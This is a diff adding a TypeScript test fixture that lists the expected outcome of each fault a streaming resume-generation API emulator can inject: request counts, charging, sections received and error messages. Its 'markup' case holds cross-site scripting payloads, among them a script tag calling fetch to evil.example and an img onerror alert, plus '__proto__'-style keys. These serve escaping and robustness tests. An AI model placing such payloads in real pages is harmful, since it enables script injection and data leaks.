@@ -1,0 +1,164 @@
+import type { Dialect, FaultName } from '../../emulator';
+import { eventOf, formatEvent } from '../../emulator/dialects';
+import type { Sections } from './expected';
+
+/** How an item ends that does not end well. */
+export interface ExpectedFailure {
+	/** The API's own words, or what the node's must name. */
+	message: string | RegExp;
+	/** Status of the answer, or the one that an `error` event carried. */
+	statusCode?: number;
+	code?: string;
+	/** Whether a later run can help without paying twice. */
+	retryable: boolean;
+	/** Whether it holds for every other item, too, so that those not yet started are not sent. */
+	forAll?: true;
+}
+
+/** What the contract makes of one fault, for an item that may be tried twice. */
+export interface ExpectedFault {
+	/** Requests sent for the item. */
+	requests: number;
+	/** Whether the last of them is charged; the earlier ones never are. */
+	charged: boolean;
+	/** The sections that arrive: so many of the usual ones, or others. */
+	arrives: number | 'all' | Sections;
+	/** Not set when the item ends well. */
+	failure?: ExpectedFailure;
+}
+
+const well = (arrives: ExpectedFault['arrives'] = 'all', requests = 1): ExpectedFault => ({
+	requests,
+	charged: true,
+	arrives,
+});
+
+/** Refused before the stream: free, and never tried again. */
+const refused = (
+	statusCode: number,
+	message: string | RegExp,
+	more: Partial<ExpectedFailure> = {},
+): ExpectedFault => ({
+	requests: 1,
+	charged: false,
+	arrives: 0,
+	failure: { message, statusCode, retryable: false, ...more },
+});
+
+/** Refused before any section in a way that may pass: tried again, and the failure is that of the last try. */
+const passing = (failure: Omit<ExpectedFailure, 'retryable'>): ExpectedFault => ({
+	requests: 2,
+	charged: false,
+	arrives: 0,
+	failure: { ...failure, retryable: true },
+});
+
+/** Broken after the 200: the credits are spent, so never tried again. */
+const broken = (
+	arrives: ExpectedFault['arrives'],
+	message: string | RegExp,
+	statusCode?: number,
+): ExpectedFault => ({
+	requests: 1,
+	charged: true,
+	arrives,
+	failure: { message, statusCode, retryable: false },
+});
+
+/** One row for each of the emulator's faults. */
+export const expectedFaults = (dialect: Dialect): Record<FaultName, ExpectedFault> => ({
+	status_400: refused(400, 'The request body is not valid'),
+	status_401: refused(401, 'Invalid API key', { forAll: true }),
+	status_402: refused(402, 'You have run out of credits', {
+		code: 'insufficient_credits',
+		forAll: true,
+	}),
+	status_403: refused(403, 'This key may not generate documents'),
+	status_404: refused(404, 'Resume not found'),
+	status_409: refused(409, 'The resume is being changed by another request'),
+	status_413: refused(413, 'The request body is larger than 10 MB'),
+	status_422: refused(422, 'The job description is too short'),
+	status_429: passing({ statusCode: 429, message: 'Rate limit exceeded' }),
+	status_500: passing({ statusCode: 500, message: 'Something went wrong on our side' }),
+	status_502: passing({ statusCode: 502, message: 'The language model could not be reached' }),
+	status_503: passing({ statusCode: 503, message: 'The service is down for maintenance' }),
+	status_504: passing({ statusCode: 504, message: 'The language model took too long' }),
+	other_shape_403: refused(403, 'This key lacks the scope "generate"', {
+		code: 'insufficient_scope',
+	}),
+	reset: passing({ code: 'ECONNRESET', message: /could not be reached/ }),
+	// Nobody knows whether a request that was never answered is charged; this one is not.
+	no_answer: { ...broken(0, /nothing for 1 second/), charged: false },
+	redirect: refused(302, 'Moved'),
+	html: refused(200, /text\/html/),
+	json: refused(200, /application\/json/),
+	html_502: passing({ statusCode: 502, message: /502/ }),
+	big_error: passing({ statusCode: 500, message: /500/ }),
+
+	rate_limited_once: well('all', 2),
+	unavailable_once: well('all', 2),
+	unavailable_date_once: well('all', 2),
+	reset_once: well('all', 2),
+	error_first_once: well('all', 2),
+
+	empty: broken(0, /ended before/),
+	cut_first: broken(0, /cut before/),
+	stall_first: broken(0, /nothing for 1 second/),
+	malformed_first: broken(0, /can not be read/),
+	error_first_429: passing({ statusCode: 429, message: 'Rate limit exceeded' }),
+	error_first_400: refused(400, 'The text could not be generated'),
+	error_first: { ...broken(0, 'The text could not be generated'), charged: false },
+	nothing: broken(0, /^Nothing was generated/),
+	truncated: broken(2, /ended before/),
+	cut: broken(2, /cut before/),
+	stall: broken(2, /nothing for 1 second/),
+	malformed: broken(2, /can not be read/),
+	wrong_type: broken(2, /can not be read/),
+	error_mid: broken(2, 'Rate limit exceeded', 429),
+	error_mid_plain: broken(2, 'The text could not be generated'),
+	big_event: broken(1, /8 MiB/),
+	big_stream: broken(bigStreamWithin(64 * 1024 * 1024, dialect), /64 MiB/),
+
+	unknown_events: well(),
+	unterminated: well(),
+	holds_open: well(),
+	bom: well(),
+	crlf: well(),
+	cr: well(),
+	comments: well(),
+	multi_data: well(),
+	one_byte: well(),
+	slow: well(),
+	hold: well(),
+	proto: well([
+		['__proto__', 'A section like any other, whatever its name.'],
+		['constructor', 'So is this one.'],
+		['toString', 'And this one.'],
+	]),
+	markup: well([
+		[
+			'summary',
+			'# Not a heading\n\nResearch & "development" <b>lead</b> <script>fetch("https://evil.example/?c=1")</script>',
+		],
+		[
+			'skills',
+			'## Skills\n- <img src="https://evil.example/pixel.gif" onerror=\'alert(1)\'>\n- [a link](javascript:alert(1))',
+		],
+		['a<b>&"c"', 'A name with markup in it; 5 < 6 && 7 > 6.'],
+	]),
+	single: well(1),
+});
+
+/** What of the fault `big_stream` lies, event by whole event, within so many bytes. */
+function bigStreamWithin(limit: number, dialect: Dialect): Sections {
+	const piece = 'Lorem ipsum dolor sit amet, consectetur. '.repeat(1640).slice(0, 64 * 1024);
+	const sections = new Map<string, string>();
+	let room = limit;
+	for (let number = 0; ; number++) {
+		const section = `section_${Math.floor(number / 52) + 1}`;
+		const event = eventOf({ kind: 'section', section, content: piece }, dialect, '');
+		room -= event ? formatEvent(event, {}).length : 0;
+		if (room < 0) return [...sections];
+		sections.set(section, (sections.get(section) ?? '') + piece);
+	}
+}
